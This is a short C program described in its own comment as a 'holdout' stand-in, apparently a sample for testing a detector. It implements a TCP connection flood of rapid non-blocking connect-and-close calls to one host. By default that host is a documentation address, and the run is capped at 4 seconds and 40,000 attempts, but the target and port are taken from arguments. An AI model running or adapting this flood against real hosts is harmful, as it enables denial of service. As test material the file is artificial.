/* Holdout 2 stand-in: a TCP connection flood ("SYN flood" without raw sockets). Non-blocking
 * connect() after connect() to one documentation address, each socket closed at once so only
 * the handshake's first packet leaves; bounded to 4 seconds and 40,000 attempts. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
    const char *target = argc > 1 ? argv[1] : "203.0.113.10";
    int port = argc > 2 ? atoi(argv[2]) : 443;
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, target, &sa.sin_addr);
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    long sent = 0;
    for (; sent < 40000; sent++) {
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
        if (fd < 0) break;
        connect(fd, (struct sockaddr *)&sa, sizeof sa);
        close(fd);
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec - start.tv_sec >= 4) break;
    }
    printf("probe: %ld\n", sent);
    return 0;
}
